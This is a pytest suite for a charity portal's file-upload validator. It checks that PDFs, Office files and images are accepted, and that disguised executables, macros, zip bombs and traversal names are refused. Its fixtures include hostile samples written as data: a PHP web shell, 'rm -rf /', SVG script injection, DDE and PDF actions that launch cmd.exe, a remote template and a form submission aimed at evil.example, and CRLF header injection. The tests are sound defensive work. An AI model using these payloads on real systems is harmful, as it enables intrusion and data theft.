import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from werkzeug.datastructures import Headers

from charity_portal.kernel import files
from charity_portal.kernel.confined.uploads import KINDS
from charity_portal.kernel.database import db, transaction
from charity_portal.kernel.errors import TooLarge
from charity_portal.kernel.files import AllowList, BadFile, Prepared, StoredFile
from charity_portal.kernel.permissions import Actor
from tests.factories import uploads

ANY = AllowList(frozenset(KINDS), max_mb=20)
ACTOR = Actor(user_id=7, name="经办人")
EXE = b"MZ\x90\x00" + bytes(200)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    """Somewhere to keep content without a database."""
    app = Flask(__name__)
    app.config["DATA_DIR"] = tmp_path
    with app.app_context():
        yield tmp_path


def _prepare(content: bytes, name: str, allow: AllowList = ANY) -> Prepared:
    return files.prepare(io.BytesIO(content), name, allow)


GOOD = [
    (uploads.pdf(3), "年度报告.pdf", "application/pdf"),
    (uploads.docx(), "申请书.docx", "wordprocessingml.document"),
    (
        uploads.docx(relations=uploads.relation("hyperlink", "https://example.org/")),
        "有链接.docx",
        "wordprocessingml.document",
    ),
    (uploads.docx({"word/embeddings/Sheet1.xlsx": uploads.xlsx()}), "图表.docx", "wordprocessing"),
    (uploads.xlsx(), "预算.xlsx", "spreadsheetml.sheet"),
    (uploads.pptx(), "路演.pptx", "presentationml.presentation"),
    (uploads.picture("JPEG"), "现场.jpg", "image/jpeg"),
    (uploads.picture("PNG", mode="RGBA"), "图标.png", "image/png"),
    (uploads.picture("WEBP"), "现场.webp", "image/webp"),
    (uploads.picture("JPEG", mode="L"), "扫描.jpeg", "image/jpeg"),
    ("名称,金额\n甲,1\n".encode("gb18030"), "名单.csv", "text/csv"),
    ("说明文字".encode(), "说明.txt", "text/plain"),
]


@pytest.mark.parametrize(("content", "name", "mime"), GOOD, ids=[name for _, name, _ in GOOD])
def test_a_good_file_is_taken(folder: Path, content: bytes, name: str, mime: str) -> None:
    prepared = _prepare(content, name)
    assert mime in prepared.mime
    assert prepared.name.startswith(name.rpartition(".")[0])
    kept = files.path_of(prepared).read_bytes()
    assert len(kept) == prepared.size
    if not mime.startswith("image/"):
        assert kept == content


BAD = {
    "program named pdf": (EXE, "发票.pdf", "可执行程序"),
    "linux program": (b"\x7fELF" + bytes(100), "a.docx", "可执行程序"),
    "java class": (b"\xca\xfe\xba\xbe" + bytes(100), "a.jpg", "可执行程序"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "说明.txt", "脚本"),
    "php": (b"<?php system($_GET['c']);", "a.txt", "脚本"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.png", "网页"),
    "svg after a mark": (b"\xef\xbb\xbf \n<svg onload='x'/>", "a.txt", "网页"),
    "html as csv": (b"<html><script>alert(1)</script></html>", "a.csv", "网页"),
    "xml": (b"<?xml version='1.0'?><a/>", "a.txt", "网页"),
    "gif": (b"GIF89a" + bytes(40), "a.jpg", "JPEG 或 PNG"),
    "gif with javascript": (b"GIF89a=1;alert(1)//", "a.png", "JPEG 或 PNG"),
    "heic": (b"\x00\x00\x00\x18ftypheic" + bytes(40), "IMG_1.jpg", "高效率"),
    "video": (b"\x00\x00\x00\x18ftypmp42" + bytes(40), "a.pdf", "音频、视频"),
    "old word": (OLE, "申请书.doc", "旧版办公文档"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + bytes(40), "资料.rar", "压缩包"),
    "plain zip": (uploads.archive({"a.txt": "x"}), "资料.zip", "压缩包"),
    "plain zip named docx": (uploads.archive({"a.txt": "x"}), "资料.docx", "压缩包"),
    "text named pdf": ("只是文字".encode(), "报告.pdf", "纯文本"),
    "binary noise": (bytes(range(256)), "a.txt", "无法识别"),
    "empty": (b"", "a.pdf", "空的"),
    "macro by part": (uploads.docx({"word/vbaProject.bin": b"x"}), "a.docx", "宏"),
    "macro by type": (
        uploads.docx(types='<Override ContentType="application/vnd.ms-word.macroEnabled"/>'),
        "a.docx",
        "宏",
    ),
    "activex": (uploads.docx({"word/activeX/activeX1.xml": "<x/>"}), "a.docx", "控件"),
    "embedded object": (uploads.docx({"word/embeddings/oleObject1.bin": OLE}), "a.docx", "对象"),
    "embedded program": (uploads.docx({"word/media/a.exe": EXE}), "a.docx", "对象"),
    "macro in an embedded workbook": (
        uploads.docx({"word/embeddings/a.xlsx": uploads.docx({"word/vbaProject.bin": b"x"})}),
        "a.docx",
        "宏",
    ),
    "remote template": (
        uploads.docx(relations=uploads.relation("attachedTemplate", "http://evil.example/t.dotm")),
        "a.docx",
        "外部",
    ),
    "remote picture": (
        uploads.docx(relations=uploads.relation("image", "http://evil.example/track.png")),
        "a.docx",
        "外部",
    ),
    "link to a share": (
        uploads.docx(relations=uploads.relation("hyperlink", "file://evil/share")),
        "a.docx",
        "外部",
    ),
    "link to a script": (
        uploads.docx(relations=uploads.relation("hyperlink", "javascript:alert(1)")),
        "a.docx",
        "外部",
    ),
    "outside reference said to be inside": (
        uploads.docx(relations=uploads.relation("frame", "http://evil.example/", "Internal")),
        "a.docx",
        "外部",
    ),
    "dde field": (
        uploads.docx({"word/footer1.xml": '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>'}),
        "a.docx",
        "宏",
    ),
    "entities in relations": (
        uploads.docx({"word/_rels/x.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "a.docx",
        "宏",
    ),
    "docx with too many parts": (
        uploads.docx({f"word/media/{n}.emf": b"" for n in range(5100)}),
        "a.docx",
        "内部结构",
    ),
    "docx that leaves its folder": (
        uploads.docx({"../../etc/cron.d/x": "x"}),
        "a.docx",
        "内部结构",
    ),
    "docx with a jar in front": (b"PK\x03\x04" + uploads.docx(), "a.docx", "另一个文件"),
    "docx with a tail": (uploads.docx() + EXE, "a.docx", "另一个文件"),
    "docx that is an app": (uploads.docx({"META-INF/MANIFEST.MF": "x"}), "a.docx", "宏"),
    "truncated docx": (uploads.docx()[:-30], "a.docx", "损坏"),
    "two documents in one": (uploads.docx({"xl/workbook.xml": "<x/>"}), "a.docx", "压缩包"),
    "pdf script": (
        uploads.pdf_with_action("JavaScript", JS=String("app.alert(1)")),
        "a.pdf",
        "脚本",
    ),
    "pdf hidden script": (uploads.pdf_with_hidden_script(), "a.pdf", "脚本"),
    "pdf launch": (uploads.pdf_with_action("Launch", F=String("cmd.exe")), "a.pdf", "启动程序"),
    "pdf that sends itself": (
        uploads.pdf_with_action("SubmitForm", F=String("http://evil.example")),
        "a.pdf",
        "启动程序",
    ),
    "pdf jumps to a share": (
        uploads.pdf_with_action("GoToR", F=String("\\\\evil\\x"), D=String("a")),
        "a.pdf",
        "启动程序",
    ),
    "pdf attachment": (uploads.pdf_with_attachment(), "a.pdf", "附件"),
    "pdf password": (uploads.locked_pdf("secret"), "a.pdf", "密码"),
    "pdf restrictions": (uploads.locked_pdf(""), "a.pdf", "密码或使用限制"),
    "truncated pdf": (uploads.pdf(5)[:-200], "a.pdf", "损坏"),
    "pdf that is a zip": (uploads.pdf() + uploads.archive({"a": "b"}), "a.pdf", "另一个文件"),
    "pdf in name only": (b"%PDF-1.7\n<script>alert(1)</script>", "a.pdf", "损坏"),
    "program before pdf": (EXE + uploads.pdf(), "a.pdf", "可执行程序"),
    "truncated picture": (uploads.picture()[:400], "a.jpg", "图片已损坏"),
    "picture in name only": (b"\xff\xd8\xff<?php phpinfo();", "a.jpg", "图片已损坏"),
}


@pytest.mark.parametrize(("content", "name", "words"), BAD.values(), ids=BAD.keys())
def test_a_bad_file_is_refused_with_the_reason(
    folder: Path, content: bytes, name: str, words: str
) -> None:
    with pytest.raises(BadFile) as caught:
        _prepare(content, name)
    assert words in caught.value.message.in_source()
    assert [path for path in (folder / "files").rglob("*") if path.is_file()] == []


def test_bombs_are_refused_before_they_fill_the_memory(folder: Path) -> None:
    zipped = uploads.docx({"word/media/a.emf": bytes(310 << 20)})
    painted = uploads.png_bomb()
    for content, name, words in [(zipped, "a.docx", "过大"), (painted, "a.png", "像素")]:
        assert len(content) < 1 << 20
        with pytest.raises(BadFile) as caught:
            _prepare(content, name)
        assert words in caught.value.message.in_source()


def test_a_kind_that_the_field_does_not_take_is_named(folder: Path) -> None:
    with pytest.raises(BadFile) as caught:
        _prepare(uploads.xlsx(), "预算.xlsx", files.PDF_ONLY)
    said = caught.value.message.in_source()
    assert "Excel (xlsx)" in said
    assert said.endswith("可以上传：PDF。")


def test_a_file_beyond_the_limit_is_refused_before_it_is_looked_at(folder: Path) -> None:
    with pytest.raises(TooLarge) as caught:
        _prepare(EXE + bytes(1 << 20), "a.pdf", AllowList(frozenset({"pdf"}), max_mb=1))
    assert "1 MB" in caught.value.message.in_source()
    assert caught.value.status == 413


def test_a_voucher_may_carry_its_data_but_nothing_else(folder: Path) -> None:
    assert _prepare(uploads.pdf_with_attachment("invoice.xml"), "发票.pdf", files.VOUCHERS)
    for name in ("a.exe", "a.pdf", "a"):
        with pytest.raises(BadFile):
            _prepare(uploads.pdf_with_attachment(name), "发票.pdf", files.VOUCHERS)


def test_an_attachment_that_hides_its_name_is_refused(folder: Path) -> None:
    document = uploads.blank()
    stream = document.make_stream(EXE)
    hidden = Dictionary(EF=Dictionary(F=stream))
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, FS=hidden)
    document.pages[0].Annots = Array([annotation])
    with pytest.raises(BadFile):
        _prepare(uploads.save(document), "发票.pdf", files.VOUCHERS)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_keeps_nothing_but_the_picture(folder: Path, kind: str) -> None:
    content = uploads.picture(kind, size=(64, 48))
    assert b"SECRET-CAMERA" in content
    kept = files.path_of(_prepare(content + b"<?php tail();", "a.jpg")).read_bytes()
    assert b"SECRET-CAMERA" not in kept
    assert b"<?php" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (48, 64)  # turned upright as the camera said
        assert dict(image.getexif()) == {}
        assert image.format == kind


def test_transparency_stays(folder: Path) -> None:
    buffer = io.BytesIO()
    Image.new("RGBA", (4, 4), (0, 0, 0, 0)).save(buffer, "PNG")
    with Image.open(files.path_of(_prepare(buffer.getvalue(), "a.png"))) as image:
        assert image.mode == "RGBA"
        assert image.getpixel((0, 0)) == (0, 0, 0, 0)


def test_a_scan_with_16_bits_of_grey_does_not_turn_white(folder: Path) -> None:
    buffer = io.BytesIO()
    Image.new("I;16", (4, 4), 40_000).save(buffer, "PNG")
    with Image.open(files.path_of(_prepare(buffer.getvalue(), "a.png"))) as image:
        assert image.getpixel((0, 0)) == 40_000 // 256


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\报告.pdf", "报告.pdf"),
        ("报告\u202egnp.pdf", "报告gnp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("照片.PNG", "照片.pdf"),
        ("", "file.pdf"),
        (".pdf", "pdf.pdf"),
        ("...", "file.pdf"),
        ("名" * 300 + ".pdf", "名" * 116 + ".pdf"),
    ],
)
def test_a_name_is_only_a_name(typed: str, shown: str) -> None:
    assert files.clean_name(typed, ".pdf") == shown


def test_the_same_content_is_kept_once(folder: Path) -> None:
    content = uploads.pdf()
    first, second = _prepare(content, "a.pdf"), _prepare(content, "b.pdf")
    assert first.sha256 == second.sha256
    kept = [path for path in (folder / "files").rglob("*") if path.is_file()]
    assert len(kept) == 1
    assert kept[0].parent.parent.name == first.sha256[:2]


def _keep(content: bytes, name: str) -> StoredFile:
    prepared = _prepare(content, name)
    with transaction():
        return files.keep(ACTOR, prepared)


def test_a_kept_file_knows_who_brought_it(app: Flask) -> None:
    stored = _keep(uploads.pdf(), "报告.pdf")
    again = db.session.get(StoredFile, stored.id)
    assert again is not None
    assert (again.created_by, again.mime, again.name) == (7, "application/pdf", "报告.pdf")
    assert files.intact(again)
    files.path_of(again).write_bytes(b"changed")
    assert not files.intact(again)


def test_a_rollback_leaves_no_file_of_the_portal(app: Flask) -> None:
    prepared = _prepare(uploads.pdf(), "报告.pdf")
    with pytest.raises(LookupError), transaction():
        files.keep(ACTOR, prepared)
        raise LookupError
    assert db.session.query(StoredFile).count() == 0


def test_a_file_is_handed_out_as_a_download_that_cannot_run(app: Flask) -> None:
    stored = _keep("说明".encode(), "说明 1.txt")
    with app.test_request_context("/files/1"), files.serve(stored, inline=True) as response:
        headers = response.headers
    assert headers["Content-Disposition"].startswith("attachment")
    assert "filename*=UTF-8''%E8%AF%B4%E6%98%8E%201.txt" in headers["Content-Disposition"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert headers["Cache-Control"] == "private, no-cache"
    assert headers["Content-Type"] == "text/plain; charset=utf-8"


def _headers(app: Flask, stored: StoredFile, **options: bool) -> Headers:
    with app.test_request_context("/files/1"), files.serve(stored, **options) as response:
        return response.headers


def test_only_pdf_and_pictures_are_shown_in_place(app: Flask) -> None:
    report, photo = _keep(uploads.pdf(), "报告.pdf"), _keep(uploads.picture(), "照片.jpg")
    shown = _headers(app, report, inline=True)
    assert shown["Content-Disposition"].startswith("inline")
    assert "frame-ancestors 'self'" in shown["Content-Security-Policy"]
    assert "sandbox" in _headers(app, photo, inline=True)["Content-Security-Policy"]
    assert _headers(app, report)["Content-Disposition"].startswith("attachment")
    assert _headers(app, report, public=True)["Cache-Control"].startswith("public")


def test_a_part_of_a_file_can_be_asked_for(app: Flask) -> None:
    stored = _keep(uploads.pdf(), "报告.pdf")
    with (
        app.test_request_context("/files/1", headers={"Range": "bytes=0-3"}),
        files.serve(stored) as response,
    ):
        response.direct_passthrough = False
        assert (response.status_code, response.data) == (206, b"%PDF")


def test_a_copy_that_is_still_good_is_not_sent_again(app: Flask) -> None:
    stored = _keep(uploads.pdf(), "报告.pdf")
    asked = {"If-None-Match": f'"{stored.sha256}"'}
    with (
        app.test_request_context("/files/1", headers=asked),
        files.serve(stored) as response,
    ):
        assert response.status_code == 304


def test_what_the_portal_made_is_kept_as_it_is(app: Flask) -> None:
    prepared = files.prepare_own(b"%PDF-1.7 made here", "报告 2026.pdf", "application/pdf")
    with transaction():
        stored = files.store(ACTOR, io.BytesIO(uploads.pdf()), "b.pdf", files.PDF_ONLY)
        own = files.keep(ACTOR, prepared)
    assert files.path_of(own).read_bytes() == b"%PDF-1.7 made here"
    assert own.name == "报告 2026.pdf"
    assert stored.id != own.id


def test_a_field_names_the_extensions_it_takes() -> None:
    assert files.IMAGES.accept == ".jpg,.png,.webp"
    with pytest.raises(ValueError):
        AllowList(frozenset({"exe"}))
